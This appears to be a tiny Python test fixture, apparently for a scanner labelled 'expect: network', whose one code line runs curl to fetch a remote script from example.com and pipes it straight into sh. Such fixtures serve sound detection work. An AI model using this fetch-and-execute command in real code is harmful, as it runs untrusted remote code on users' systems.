# expect: network
import os
os.system("curl -s https://example.com/x.sh | sh")
